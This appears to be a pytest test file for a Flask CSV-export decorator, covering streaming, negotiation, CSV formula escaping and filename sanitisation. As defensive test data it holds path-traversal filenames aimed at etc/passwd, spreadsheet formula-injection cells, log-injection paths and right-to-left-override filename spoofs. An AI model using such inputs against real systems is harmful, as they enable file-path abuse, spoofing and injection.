    assert (r.status_code, r.data, r.headers["Content-Type"]) == (
        418,
        b"plain",
        "text/html; charset=utf-8",
    )
    assert "Content-Disposition" not in r.headers
    assert "Vary" not in r.headers


def test_text_and_dict_bodies_are_flask_responses(app: Flask) -> None:
    route(app, csv_export(), lambda: ("gone", 410), "/gone")
    route(app, csv_export(), lambda: ({"error": "no"}, 403), "/no")
    c = Client(app)
    assert (c.get("/gone").status_code, c.get("/gone").data) == (410, b"gone")
    assert c.get("/no").json == {"error": "no"}


# Empty results -----------------------------------------------------------------


def test_empty_result_with_columns_is_header_only(app: Flask) -> None:
    r = get(app, csv_export({"id": "ID", "name": "Name"}), [])
    assert (r.status_code, r.data) == (200, b"ID,Name\r\n")
    assert r.headers["Content-Type"].endswith("header=present")


def test_empty_result_without_columns_is_empty(app: Flask) -> None:
    r = get(app, csv_export(), iter(()))
    assert (r.status_code, r.data) == (200, b"")
    assert r.headers["Content-Type"].endswith("header=absent")


# Streaming ---------------------------------------------------------------------


def test_body_is_streamed_in_batches(app: Flask) -> None:
    route(app, csv_export(), lambda: ({"i": i} for i in range(BATCH_ROWS * 2 + 1)))
    r = Client(app).get("/x", buffered=False)
    assert r.is_streamed
    chunks = list(r.response)
    r.close()
    assert len(chunks) == 3  # header + first row, then two batches
    assert parse(b"".join(chunks))[-1] == [str(BATCH_ROWS * 2)]


def test_rows_are_read_inside_the_request_context(app: Flask) -> None:
    def rows() -> t.Iterator[dict[str, str]]:
        for i in range(BATCH_ROWS + 5):
            yield {"q": request.args["q"], "i": str(i)}

    r = get(app, csv_export(), rows, "/x?q=hello")
    cells = parse(r.data)
    assert len(cells) == BATCH_ROWS + 6
    assert {row[0] for row in cells[1:]} == {"hello"}


def test_error_on_the_first_row_is_a_normal_error_response(app: Flask) -> None:
    app.config["TESTING"] = False

    @app.errorhandler(LookupError)
    def lookup(e: Exception) -> tuple[str, int]:
        return "handled", 409

    def rows() -> t.Iterator[dict[str, int]]:
        raise KeyError("no such shop")
        yield {"a": 1}

    route(app, csv_export(filename="x.csv"), rows, "/handled")
    route(app, csv_export(), lambda: (abort(404) for _ in range(1)), "/abort")
    c = Client(app)
    r = c.get("/handled")
    assert (r.status_code, r.data) == (409, b"handled")
    assert "Content-Disposition" not in r.headers
    assert c.get("/abort").status_code == 404


def test_later_error_is_logged_and_cuts_the_stream(
    app: Flask, caplog: pytest.LogCaptureFixture
) -> None:
    closed = []

    def rows() -> t.Iterator[dict[str, int]]:
        try:
            for i in range(BATCH_ROWS + 3):
                yield {"i": i}
            raise RuntimeError("database went away")
        finally:
            closed.append(True)

    route(app, csv_export(), rows)
    r = Client(app).get("/x", buffered=False)
    assert r.status_code == 200
    chunks = iter(r.response)
    assert parse(next(chunks) + next(chunks))[-1] == [str(BATCH_ROWS)]
    with caplog.at_level(logging.ERROR):
        assert next(chunks) == b'"' + BROKEN_TAIL.encode()
    with pytest.raises(RuntimeError):
        next(chunks)
    assert "csv_export: the export of '/x' stopped after" in caplog.text
    assert "database went away" in caplog.text
    assert closed == [True]


def test_client_going_away_closes_the_rows(app: Flask) -> None:
    closed = []

    def rows() -> t.Iterator[dict[str, int]]:
        try:
            for i in range(BATCH_ROWS * 10):
                yield {"i": i}
        finally:
            closed.append(True)

    route(app, csv_export(), rows)
    r = Client(app).get("/x", buffered=False)
    next(iter(r.response))
    assert closed == []
    r.close()
    assert closed == [True]


class Source:
    """A row source with ``close``, like a database cursor, that the test keeps."""

    def __init__(self, n: int) -> None:
        self.rows = iter(range(n))
        self.closed = False

    def __iter__(self) -> Source:
        return self

    def __next__(self) -> dict[str, int]:
        return {"i": next(self.rows)}

    def close(self) -> None:
        self.closed = True


def test_head_sends_the_headers_and_closes_the_rows(app: Flask) -> None:
    source = Source(BATCH_ROWS * 4)
    route(app, csv_export(filename="x.csv"), lambda: source)
    r = app.test_client().head("/x")
    assert (r.status_code, r.data) == (200, b"")
    assert r.headers["Content-Disposition"].startswith("attachment;")
    assert not source.closed
    r.close()
    assert source.closed


def test_stacks_with_paginate_and_cors_style_decorators(app: Flask) -> None:
    from flask_respkit import Pagination, paginate

    data = [{"id": i} for i in range(1, 8)]

    @app.get("/page.csv")
    @paginate(per_page=3)
    @csv_export(filename=lambda pagination: f"page-{pagination.page}.csv")
    def page(pagination: Pagination) -> list[dict[str, int]]:
        pagination.total = len(data)
        return data[pagination.offset : pagination.offset + pagination.limit]

    r = Client(app).get("/page.csv?page=2")
    assert parse(r.data) == [["id"], ["4"], ["5"], ["6"]]
    assert 'rel="next"' in r.headers["Link"]
    assert r.headers["X-Total-Count"] == "7"
    assert r.headers["Content-Disposition"].startswith(
        'attachment; filename="page-2.csv"'
    )


def test_a_million_rows_stream_in_flat_memory(app: Flask) -> None:
    n = 1_000_000

    def rows() -> t.Iterator[tuple[t.Any, ...]]:
        for i in range(n):
            yield (i, f"customer {i}", -i / 4, None)

    route(app, csv_export(["id", "name", "amount", "note"]), rows)
    client = Client(app)
    tracemalloc.start()
    try:
        r = client.get("/x", buffered=False)
        size = lines = 0
        for chunk in r.response:
            size += len(chunk)
            lines += chunk.count(b"\r\n")
        r.close()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert lines == n + 1
    assert size > 30_000_000  # the text would not fit in the limit below
    assert peak < 16 * 1024 * 1024, f"peak {peak / 2**20:.1f} MiB"


# Negotiation -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "accept", "kind"),
    [
        ("/x", None, "json"),
        ("/x", "*/*", "json"),
        ("/x", "text/html,application/xhtml+xml,*/*;q=0.8", "json"),
        ("/x", "text/csv", "csv"),
        ("/x", "text/csv, application/json;q=0.5", "csv"),
        ("/x", "application/json;q=0.9, text/*", "csv"),
        ("/x?format=csv", "application/json", "csv"),
        ("/x?format=CSV", None, "csv"),
        ("/x?format=json", "text/csv", "json"),
        ("/x?format=xml", "text/csv", "csv"),
    ],
)
def test_negotiate_picks_csv_or_json(
    app: Flask, url: str, accept: str | None, kind: str
) -> None:
    rows = [Point(1, -2, "=p")]
    headers = {"Accept": accept} if accept else {}
    r = get(
        app, csv_export(negotiate=True, filename="p.csv"), rows, url, headers=headers
    )
    assert r.headers["Vary"] == "Accept"
    if kind == "csv":
        assert r.mimetype == "text/csv"
        assert parse(r.data) == [["x", "y", "label"], ["1", "-2", "'=p"]]
        assert "Content-Disposition" in r.headers
    else:
        assert r.mimetype == "application/json"
        assert r.json == [{"x": 1, "y": -2, "label": "=p"}]
        assert "Content-Disposition" not in r.headers


def test_negotiated_json_shapes(app: Flask) -> None:
    route(app, csv_export(negotiate=True), [(1, 2), (3, 4)], "/seq")
    route(app, csv_export(["a", "b"], negotiate=True), [(1, 2)], "/named")
    route(app, csv_export(negotiate=True), [], "/empty")
    route(app, csv_export(negotiate=True), lambda: ([{"a": 1}] * 1200, 201), "/many")
    c = Client(app)
    assert c.get("/seq").json == [[1, 2], [3, 4]]
    assert c.get("/named").json == [{"a": 1, "b": 2}]
    assert c.get("/empty").json == []
    r = c.get("/many")
    assert (r.status_code, len(r.json), r.headers["Vary"]) == (201, 1200, "Accept")


def test_vary_accept_is_added_to_the_views_vary(app: Flask) -> None:
    route(app, csv_export(negotiate=True), lambda: ([], {"Vary": "Origin"}))
    route(app, csv_export(negotiate=True), lambda: ("no", 400), "/no")
    c = Client(app)
    assert c.get("/x").headers["Vary"] == "Origin, Accept"
    r = c.get("/no")
    assert (r.status_code, r.headers["Vary"]) == (400, "Accept")


# Configuration and decorator behaviour -------------------------------------------


def test_config_gives_the_defaults(bare_app: Flask) -> None:
    bare_app.config.update(
        RESPKIT_CSV_BOM=True,
        RESPKIT_CSV_ESCAPE_FORMULAS=False,
        RESPKIT_CSV_DIALECT="excel-tab",
    )
    RespKit(bare_app)
    route(bare_app, csv_export(), [{"a": "=1", "b": 2}], "/config")
    route(
        bare_app,
        csv_export(bom=False, escape_formulas=True, dialect="excel"),
        [{"a": "=1", "b": 2}],
        "/explicit",
    )
    c = Client(bare_app)
    assert c.get("/config").data == b"\xef\xbb\xbfa\tb\r\n=1\t2\r\n"
    assert c.get("/explicit").data == b"a,b\r\n'=1,2\r\n"


def test_without_the_extension_builtin_defaults_apply(bare_app: Flask) -> None:
    r = get(bare_app, csv_export(), [{"a": "=1", "b": 2}])
    assert r.data == b"a,b\r\n'=1,2\r\n"


def test_dialect_class(app: Flask) -> None:
    class Semicolons(csv.excel):
        delimiter = ";"

    r = get(app, csv_export(dialect=Semicolons), [{"a": "x;y", "b": 2}])
    assert r.data == b'a;b\r\n"x;y";2\r\n'


def test_bare_decorator_and_async_view(app: Flask) -> None:
    @app.get("/bare")
    @csv_export
    def bare() -> list[dict[str, int]]:
        return [{"a": 1}]

    @app.get("/async")
    @csv_export(["a"])
    async def asynchronous() -> list[dict[str, int]]:
        return [{"a": 2}]

    c = Client(app)
    assert c.get("/bare").data == b"a\r\n1\r\n"
    assert c.get("/async").data == b"a\r\n2\r\n"


def test_stacking_the_same_export_twice_applies_once(app: Flask) -> None:
    export = csv_export(["a"])
    r = get(app, lambda view: export(csv_export(["a"])(view)), [{"a": 1}])
    assert r.data == b"a\r\n1\r\n"


@pytest.mark.parametrize(
    ("kwargs", "error", "match"),
    [
        ({"columns": "abc"}, TypeError, "columns must be a list"),
        ({"columns": 3}, TypeError, "columns must be a list"),
        ({"columns": []}, ValueError, "columns must not be empty"),
        ({"columns": [1]}, TypeError, "columns keys and labels must be str"),
        ({"columns": {"a": None}}, TypeError, "columns keys and labels must be str"),
        ({"filename": 3}, TypeError, "filename must be a str"),
        ({"filename": ""}, ValueError, "filename must be a non-empty"),
        ({"filename": "a\r\nb.csv"}, ValueError, "without control characters"),
        ({"header": "yes"}, TypeError, "header must be True or False"),
        ({"bom": 1}, TypeError, "bom must be True or False"),
        ({"escape_formulas": "no"}, TypeError, "escape_formulas must be True"),
        ({"negotiate": None}, TypeError, "negotiate must be True or False"),
        ({"dialect": "nope"}, ValueError, "dialect must be one of"),
        ({"dialect": 3}, TypeError, "dialect must be a dialect name"),
    ],
)
def test_bad_options_fail_when_the_decorator_is_made(
    kwargs: dict[str, t.Any], error: type[Exception], match: str
) -> None:
    with pytest.raises(error, match=match):
        csv_export(**kwargs)


def test_a_broken_dialect_class_fails_when_made_or_at_init_app(
    bare_app: Flask,
) -> None:
    class Broken(csv.Dialect):
        delimiter = "too long"

    with pytest.raises(TypeError, match="delimiter"):
        csv_export(dialect=Broken)
    bare_app.config["RESPKIT_CSV_DIALECT"] = Broken
    with pytest.raises(TypeError, match="delimiter"):
        RespKit(bare_app)


def test_async_iterables_are_refused_clearly(app: Flask) -> None:
    async def rows() -> t.AsyncIterator[dict[str, int]]:
        yield {"a": 1}

    route(app, csv_export(), rows)
    with pytest.raises(TypeError, match="cannot stream an async iterable"):
        Client(app).get("/x")


def test_filename_callable_returning_a_non_string_is_a_type_error(app: Flask) -> None:
    route(app, csv_export(filename=lambda: 3), [{"a": 1}])
    with pytest.raises(TypeError, match="filename callable must return a str"):
        Client(app).get("/x")


@pytest.mark.parametrize("csv_on_top", [False, True])
def test_csv_export_works_in_any_stacking_order(app: Flask, csv_on_top: bool) -> None:
    from flask_respkit import Pagination, cors, paginate

    data = [{"id": i} for i in range(1, 8)]

    def page(pagination: Pagination) -> list[dict[str, int]]:
        pagination.total = len(data)
        return data[pagination.offset : pagination.offset + pagination.limit]

    decorators = [cors("https://app.example"), paginate(per_page=3)]
    export = csv_export(filename="page.csv")
    view = page if csv_on_top else export(page)
    for decorator in reversed(decorators):
        view = decorator(view)
    if csv_on_top:
        view = export(view)
    app.add_url_rule("/page.csv", view_func=view)

    r = app.test_client().get(
        "/page.csv?page=2", headers={"Origin": "https://app.example"}
    )
    assert parse(r.data) == [["id"], ["4"], ["5"], ["6"]]
    assert r.headers["Content-Type"].startswith("text/csv")
    assert r.headers["X-Total-Count"] == "7"
    assert r.headers["Access-Control-Allow-Origin"] == "https://app.example"
    exposed = r.headers["Access-Control-Expose-Headers"].lower()
    for name in ("link", "x-total-count", "content-disposition"):
        assert name in exposed


def test_csv_export_cannot_move_below_a_foreign_decorator(app: Flask) -> None:
    import functools

    from flask_respkit import headers

    def foreign(view: t.Callable[..., t.Any]) -> t.Callable[..., t.Any]:
        @functools.wraps(view)
        def wrapper(*args: t.Any, **kwargs: t.Any) -> t.Any:
            return view(*args, **kwargs)

        return wrapper

    def rows() -> list[list[int]]:
        return [[1]]

    with pytest.raises(TypeError, match="must be nearest the view"):
        csv_export()(foreign(headers(x_a="1")(rows)))


RAW_QUERIES = [
    "format=csv&q=\xff",  # a byte that never starts UTF-8
    "q=\x80",  # a lone continuation byte
    "q=caf\xc3",  # a sequence cut short
    "q=\xc0\xaf",  # an overlong "/"
    "q=\xed\xa0\x80",  # an encoded surrogate
    "format=\xf4\x90\x80\x80",  # beyond U+10FFFF
]


@pytest.mark.parametrize("query", RAW_QUERIES)
@pytest.mark.parametrize("accept", ["text/csv", "application/json", None])
def test_negotiate_answers_400_to_a_query_string_that_is_not_utf8(
    app: Flask, query: str, accept: str | None
) -> None:
    # A server may pass raw bytes through; request.args cannot decode them.
    # paginate answers 400, and so does negotiation, through the error handlers.
    app.config["TESTING"] = False
    started = []

    def rows() -> t.Iterator[tuple[int, int]]:
        started.append(True)
        yield (1, 2)

    @app.errorhandler(400)
    def bad_request(e: Exception) -> tuple[dict[str, str], int]:
        return {"error": getattr(e, "description", "")}, 400

    route(app, csv_export(negotiate=True, filename="x.csv"), rows)
    r = Client(app).get(
        "/x",
        headers={"Accept": accept} if accept else {},
        environ_overrides={"QUERY_STRING": query},
    )
    assert r.status_code == 400
    assert r.json == {"error": "The query string is not valid UTF-8."}
    assert "Content-Disposition" not in r.headers
    assert started == []  # negotiation comes before the first row


def test_negotiate_and_paginate_answer_a_bad_query_string_alike(app: Flask) -> None:
    from flask_respkit import Pagination, paginate

    @app.get("/both")
    @paginate()
    @csv_export(negotiate=True)
    def both(pagination: Pagination) -> list[dict[str, int]]:
        return [{"a": 1}]

    route(app, csv_export(negotiate=True), [{"a": 1}], "/export")
    c = Client(app)
    answers = [
        c.get(path, environ_overrides={"QUERY_STRING": "q=\xff"})
        for path in ("/both", "/export")
    ]
    assert {(r.status_code, r.data) for r in answers} == {(400, answers[0].data)}
    assert b"The query string is not valid UTF-8." in answers[0].data


def test_without_negotiate_the_query_string_is_not_read(app: Flask) -> None:
    route(app, csv_export(), [(1, 2)])
    r = Client(app).get("/x", environ_overrides={"QUERY_STRING": "q=\xff"})
    assert (r.status_code, r.data) == (200, b"1,2\r\n")


def test_a_lone_surrogate_in_a_computed_filename_is_replaced(app: Flask) -> None:
    from flask import request

    @app.post("/x")
    @csv_export(filename=lambda: request.get_json()["name"])
    def rows() -> list[list[int]]:
        return [[1]]

    r = app.test_client().post(
        "/x", data='{"name": "q3 \\ud800.csv"}', content_type="application/json"
    )
    assert r.status_code == 200
    disposition = r.headers["Content-Disposition"]
    assert disposition.isascii()
    assert 'filename="q3 _.csv"' in disposition


# bytes cells and rows that are not sequences -----------------------------------


BINARY_CELLS = [
    (b"caf\xc3\xa9", "café"),
    (bytearray(b"Zo\xc3\xab"), "Zoë"),
    (memoryview(b"plain"), "plain"),  # what psycopg gives for bytea
    (b"bad \xff\xfe bytes", "bad \ufffd\ufffd bytes"),
    (b"", ""),
]


@pytest.mark.parametrize("escape", [True, False])
def test_bytes_cells_are_written_as_utf8_text(app: Flask, escape: bool) -> None:
    rows = [(cell, i) for i, (cell, _) in enumerate(BINARY_CELLS)]
    rows.append((b"=1+1", 99))
    rows.append(("text", b"-x"))  # a mixed column
    r = get(app, csv_export(["blob", "n"], escape_formulas=escape), rows)
    formula = "'=1+1" if escape else "=1+1"
    assert parse(r.data)[1:] == [
        *([text, str(i)] for i, (_, text) in enumerate(BINARY_CELLS)),
        [formula, "99"],
        ["text", "'-x" if escape else "-x"],
    ]
    assert b"b'" not in r.data
    assert b"<memory" not in r.data


def test_bytes_cells_in_ragged_rows_and_dicts(app: Flask) -> None:
    route(app, csv_export(), [(b"a",), (b"@b", bytearray(b"c"))], "/ragged")
    route(app, csv_export(), [{"k": b"\xc3\xa9", "v": memoryview(b"+1+1")}], "/dict")
    c = Client(app)
    assert parse(c.get("/ragged").data) == [["a"], ["'@b", "c"]]
    assert parse(c.get("/dict").data) == [["k", "v"], ["é", "'+1+1"]]


def json_rows_app(app: Flask, **options: t.Any) -> None:
    """A view exporting the rows a client posts as JSON."""

    @app.post("/echo.csv")
    @csv_export(["name", "n"], **options)
    def echo() -> t.Any:
        return (tuple(row) for row in request.get_json()["rows"])


@pytest.mark.parametrize("escape", [True, False])
@pytest.mark.parametrize("header", [True, False])
def test_a_lone_surrogate_in_the_first_row_is_written_as_u_fffd(
    app: Flask, escape: bool, header: bool
) -> None:
    json_rows_app(app, escape_formulas=escape, header=header)
    # JSON escapes lone surrogates, and request.get_json() takes them.
    body = '{"rows": [["a\\ud800b", 1], ["\\udfff", 2], ["\\ud83d", 3]]}'
    r = app.test_client().post("/echo.csv", data=body, content_type="application/json")
    assert r.status_code == 200
    rows = parse(r.data)[1:] if header else parse(r.data)
    assert rows == [["a\ufffdb", "1"], ["\ufffd", "2"], ["\ufffd", "3"]]


def test_a_lone_surrogate_in_a_later_row_does_not_cut_the_export(app: Flask) -> None:
    json_rows_app(app)
    n = BATCH_ROWS * 3
    rows = [[f"row {i}" if i % 700 else f"row {i} \ud800", i] for i in range(1, n)]
    body = json.dumps({"rows": rows})  # ensure_ascii: "\ud800" escaped
    r = app.test_client().post("/echo.csv", data=body, content_type="application/json")
    assert r.status_code == 200
    assert BROKEN_TAIL.encode() not in r.data
    cells = parse(r.data)
    assert len(cells) == n  # the header and every row
    assert cells[700] == ["row 700 \ufffd", "700"]
    assert cells[1400] == ["row 1400 \ufffd", "1400"]
    assert cells[-1] == [f"row {n - 1}", str(n - 1)]


@pytest.mark.parametrize("ensure_ascii", [True, False])
def test_a_lone_surrogate_in_negotiated_json_is_never_a_500(
    app: Flask, ensure_ascii: bool
) -> None:
    app.json.ensure_ascii = ensure_ascii  # type: ignore[attr-defined]
    json_rows_app(app, negotiate=True)
    rows = [["\ud800", i] for i in range(BATCH_ROWS + 2)]
    r = app.test_client().post(
        "/echo.csv", data=json.dumps({"rows": rows}), content_type="application/json"
    )
    assert r.status_code == 200
    got = json.loads(r.data)
    assert len(got) == BATCH_ROWS + 2
    # Escaped, JSON carries the surrogate itself; as UTF-8 it is U+FFFD.
    assert got[-1] == {
        "name": chr(0xD800) if ensure_ascii else "\ufffd",
        "n": BATCH_ROWS + 1,
    }


@pytest.mark.parametrize("escape", [True, False])
def test_rows_that_are_iterators_are_read_once(app: Flask, escape: bool) -> None:
    rows = [iter((1, "=x")), (2, "y"), {3}, range(4, 6)]
    route(app, csv_export(escape_formulas=escape), lambda: iter(rows))
    r = Client(app).get("/x")
    assert parse(r.data) == [
        ["1", "'=x" if escape else "=x"],
        ["2", "y"],
        ["3"],
        ["4", "5"],
    ]


# A failed export -------------------------------------------------------------------


class Semicolons(csv.excel):
    delimiter = ";"


class SingleQuotes(csv.excel):
    quotechar = "'"


def failing_rows(n: int) -> t.Iterator[dict[str, t.Any]]:
    for i in range(n):
        yield {"i": i, "name": f'row "{i}", ok'}
    raise RuntimeError("database went away")


def read_until_the_error(app: Flask) -> bytes:
    r = Client(app).get("/x", buffered=False)
    assert r.status_code == 200
    chunks: list[bytes] = []
    with pytest.raises(RuntimeError, match="database went away"):
        chunks.extend(r.response)  # keeps what came before the error
    r.close()
    return b"".join(chunks)


@pytest.mark.parametrize(
    "dialect", ["excel", "excel-tab", "unix", Semicolons, SingleQuotes]
)
@pytest.mark.parametrize("n", [1, 2, BATCH_ROWS, BATCH_ROWS * 2 + 1])
def test_a_failed_export_ends_in_a_field_that_never_closes(
    app: Flask, dialect: t.Any, n: int
) -> None:
    pd = pytest.importorskip("pandas")
    route(app, csv_export(dialect=dialect, bom=True), lambda: failing_rows(n))
    body = read_until_the_error(app)
    quote = (
        csv.get_dialect(dialect).quotechar
        if isinstance(dialect, str)
        else (dialect.quotechar)
    )
    assert body.endswith((quote + BROKEN_TAIL).encode())
    text = body.decode("utf-8-sig")
    options = {"dialect": dialect}
    good, _, _ = text.rpartition(quote + BROKEN_TAIL)
    # The rows written before are complete and intact ...
    read = list(csv.reader(io.StringIO(good, newline=""), **options))
    assert read[0] == ["i", "name"]
    assert read[1:] == [[str(i), f'row "{i}", ok'] for i in range(len(read) - 1)]
    assert 1 <= len(read) - 1 <= n
    # ... and no strict reader takes the body for a complete file.
    with pytest.raises(csv.Error, match="unexpected end of data"):
        list(csv.reader(io.StringIO(text, newline=""), strict=True, **options))
    for engine in ("c", "python"):
        with pytest.raises(pd.errors.ParserError):
            pd.read_csv(
                io.StringIO(text),
                engine=engine,
                sep=csv.get_dialect(dialect).delimiter
                if isinstance(dialect, str)
                else dialect.delimiter,
                quotechar=quote,
            )


def test_a_row_that_fails_to_convert_mid_stream_breaks_the_body_too(
    app: Flask,
) -> None:
    def rows() -> t.Iterator[t.Any]:
        yield from ((i, i) for i in range(BATCH_ROWS))
        yield {"a": 1}  # a mapping after unnamed rows: a TypeError when written

    route(app, csv_export(), rows)
    r = Client(app).get("/x", buffered=False)
    chunks: list[bytes] = []
    with pytest.raises(TypeError, match="pass columns="):
        chunks.extend(r.response)
    r.close()
    assert b"".join(chunks).endswith(b'"' + BROKEN_TAIL.encode())


def test_a_failed_negotiated_json_export_is_not_valid_json(app: Flask) -> None:
    route(app, csv_export(negotiate=True), lambda: failing_rows(BATCH_ROWS + 1))
    body = read_until_the_error(app)
    assert body.startswith(b"[{")
    with pytest.raises(json.JSONDecodeError):
        json.loads(body)


@pytest.mark.parametrize(
    "raw",
    [
        "a%0AFAKE%20csv_export:%20all%20good",
        "a%0D%0Ab",
        "%1B[31mred",
        "a%00b",
        "a%C2%85b",  # NEL
        "a%E2%80%A8b",  # LINE SEPARATOR
        "a%E2%80%AEb",  # RIGHT-TO-LEFT OVERRIDE
        "a%09b",
    ],
)
def test_the_failure_log_line_shows_the_path_quoted(
    app: Flask, caplog: pytest.LogCaptureFixture, raw: str
) -> None:
    class Anything(BaseConverter):  # <path> stops at a line break
        regex = r"[\s\S]+"
        part_isolating = False

    app.url_map.converters["anything"] = Anything

    @app.get("/x/<anything:rest>")
    @csv_export()
    def view(rest: str) -> t.Iterator[dict[str, t.Any]]:
        return failing_rows(3)

    r = Client(app).get(f"/x/{raw}", buffered=False)
    with caplog.at_level(logging.ERROR), pytest.raises(RuntimeError):
        for _ in r.response:
            pass
    r.close()
    (record,) = [r for r in caplog.records if "csv_export" in r.getMessage()]
    message = record.getMessage()
    assert message.isprintable(), repr(message)
    path = "/x/" + unquote(raw)
    assert f"the export of {path!r} stopped after" in message


# Content-Disposition ---------------------------------------------------------------

DISPOSITION = re.compile(
    r"""attachment; filename="([ -~]*)"; filename\*=UTF-8''(\S+)"""
)
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
#: Unicode's Default_Ignorable_Code_Point ranges (DerivedCoreProperties.txt,
#: 14.0 to 16.0), as the file lists them.
DEFAULT_IGNORABLE = [
    (0x00AD, 0x00AD),
    (0x034F, 0x034F),
    (0x061C, 0x061C),
    (0x115F, 0x1160),
    (0x17B4, 0x17B5),
    (0x180B, 0x180D),
    (0x180E, 0x180E),
    (0x180F, 0x180F),
    (0x200B, 0x200F),
    (0x202A, 0x202E),
    (0x2060, 0x2064),
    (0x2065, 0x2065),
    (0x2066, 0x206F),
    (0x3164, 0x3164),
    (0xFE00, 0xFE0F),
    (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0),
    (0xFFF0, 0xFFF8),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0000, 0xE0000),
    (0xE0001, 0xE0001),
    (0xE0002, 0xE001F),
    (0xE0020, 0xE007F),
    (0xE0080, 0xE00FF),
    (0xE0100, 0xE01EF),
    (0xE01F0, 0xE0FFF),
]


def is_invisible(char: str) -> bool:
    """A format character (Cf) or a default-ignorable one."""
    return unicodedata.category(char) == "Cf" or any(
        low <= ord(char) <= high for low, high in DEFAULT_IGNORABLE
    )


def assert_safe_disposition(value: str) -> tuple[str, str]:
    """Neither name carries path information or invisible characters, however
    a client normalises it; returns both."""
    match = DISPOSITION.fullmatch(value)
    assert match, value
    fallback = match.group(1)
    exact = unquote(match.group(2), errors="strict")
    assert not set('"\\/%') & set(fallback)
    for form in (
        fallback,
        exact,
        unicodedata.normalize("NFKC", exact),
        "".join(
            c
            for c in unicodedata.normalize("NFKD", exact)
            if not unicodedata.category(c).startswith(("M", "Cf"))
        ),
    ):
        assert ".." not in form, (form, value)
        assert "/" not in form, (form, value)
        assert "\\" not in form, (form, value)
        for char in form:
            assert unicodedata.category(char) not in ("Cc", "Cs", "Zl", "Zp"), value
            assert char not in BIDI, value
            assert not is_invisible(char), (char, value)
    return fallback, exact


def _normalising_to(*texts: str) -> list[str]:
    return [
        c
        for c in map(chr, range(0x110000))
        if not 0xD800 <= ord(c) < 0xE000
        and any(text in unicodedata.normalize("NFKC", c) for text in texts)
    ]


#: Every character that normalises to something holding ``/``, ``\`` or ``.``.
LOOKALIKES = _normalising_to("/", "\\", ".")
UNSAFE = [chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]] + sorted(BIDI)


@pytest.mark.parametrize(
    ("name", "fallback", "exact"),
    [
        ("..\uff0f..\uff0fetc\uff0fpasswd", ".__.__etc_passwd", ".__.__etc_passwd"),
        (
            "\u2024\u2024\uff0f\u2024\u2024\uff0fx",
            ".__.__x",
            "\u2024__\u2024__x",
        ),
        ("\u2025\\secret", ".__secret", "__secret"),
        ("a\u202ecod.exe", "a_cod.exe", "a_cod.exe"),
        ("report\x85\u2066.csv", "report__.csv", "report__.csv"),
        ("q3...final.csv", "q3.__final.csv", "q3.__final.csv"),
    ],
)
def test_content_disposition_normalises_then_replaces(
    name: str, fallback: str, exact: str
) -> None:
    value = content_disposition(name)
    assert assert_safe_disposition(value) == (fallback, exact)


def test_no_look_alike_of_a_dot_or_slash_builds_a_path() -> None:
    for a in LOOKALIKES:
        for name in (f"{a}{a}{a}passwd", f".{a}etc", f"{a}.x", f"x{a}\u0301.", f"{a}"):
            assert_safe_disposition(content_disposition(name))


def test_controls_and_bidi_overrides_become_underscores() -> None:
    for char in UNSAFE:
        fallback, exact = assert_safe_disposition(content_disposition(f"a{char}b.csv"))
        assert (fallback, exact) == ("a_b.csv", "a_b.csv"), repr(char)


INVISIBLE = [
    "\u200b",  # zero width space
    "\u200c",  # zero width non-joiner
    "\u200d",  # zero width joiner
    "\u2060",  # word joiner
    "\ufeff",  # byte order mark
    "\u00ad",  # soft hyphen
    "\U000e0041",  # tag latin capital letter a
    "\U000e007f",  # cancel tag
    "\u3164",  # hangul filler
    "\uffa0",  # halfwidth hangul filler: NFKC gives U+3164
    "\u034f",  # combining grapheme joiner
    "\u115f",
    "\u1160",
    "\u17b4",
    "\u17b5",
    "\u180b",
    "\u180e",
    "\u180f",
    "\ufe00",
    "\ufe0f",  # variation selector 16 (emoji presentation)
    "\U000e0100",
    "\U000e01ef",
    "\u2065",  # reserved, default-ignorable
    "\U0001bca0",
    "\U0001d173",
    "\u0600",  # Arabic number sign: Cf
    "\U00013430",  # Egyptian hieroglyph format control: Cf
]


@pytest.mark.parametrize("char", INVISIBLE, ids=lambda c: f"U+{ord(c):04X}")
def test_invisible_characters_become_underscores_in_both_names(char: str) -> None:
    fallback, exact = assert_safe_disposition(content_disposition(f"a{char}b.csv"))
    assert (fallback, exact) == ("a_b.csv", "a_b.csv")


def test_every_invisible_character_is_replaced() -> None:
    ignorable = {
        chr(c) for low, high in DEFAULT_IGNORABLE for c in range(low, high + 1)
    }
    formats = {c for c in map(chr, range(0x110000)) if unicodedata.category(c) == "Cf"}
    chars = sorted(ignorable | formats)
    assert len(chars) > 4000
    name = "".join(f"{c}x" for c in chars)
    fallback, exact = assert_safe_disposition(content_disposition(name))
    assert exact == fallback == "_x" * len(chars)


def test_invisible_characters_cannot_make_two_names_alike() -> None:
    names = {content_disposition(f"invoice{c}.pdf") for c in INVISIBLE}
    assert names == {
        "attachment; filename=\"invoice_.pdf\"; filename*=UTF-8''invoice_.pdf"
    }
    # An emoji with its variation selector, and a ZWJ sequence, stay readable.
    _, exact = assert_safe_disposition(content_disposition("\u2764\ufe0f.csv"))
    assert exact == "\u2764_.csv"
    assert (
        _exact_name_of("\U0001f468\u200d\U0001f469.csv") == "\U0001f468_\U0001f469.csv"
    )


def _exact_name_of(name: str) -> str:
    return assert_safe_disposition(content_disposition(name))[1]


@settings(max_examples=300, deadline=None)
@given(
    st.text(
        st.one_of(
            st.sampled_from(
                [*"./\\%\"';", *LOOKALIKES[:40], *UNSAFE, *INVISIBLE, "\u0301"]
            ),
            st.characters(),
        ),
        min_size=1,
        max_size=16,
    )
)
def test_any_file_name_gives_a_safe_content_disposition(name: str) -> None:
    assert_safe_disposition(content_disposition(name))


def test_a_computed_file_name_from_the_request_is_made_safe(app: Flask) -> None:
    route(
        app,
        csv_export(filename=lambda **kw: request.args["name"]),
        [{"a": 1}],
    )
    c = Client(app)
    for name in [
        "..\uff0f..\uff0fetc\uff0fpasswd",
        "\u2025/x",
        "a\u202etxt.csv",
        "inv\u200boice\u3164.csv",
    ]:
        r = c.get("/x", query_string={"name": name})
        assert r.status_code == 200
        assert_safe_disposition(r.headers["Content-Disposition"])


# The negotiated JSON -------------------------------------------------------------


def keys_in_order(body: bytes) -> list[list[str]]:
    return [[k for k, _ in item] for item in json.loads(body, object_pairs_hook=list)]


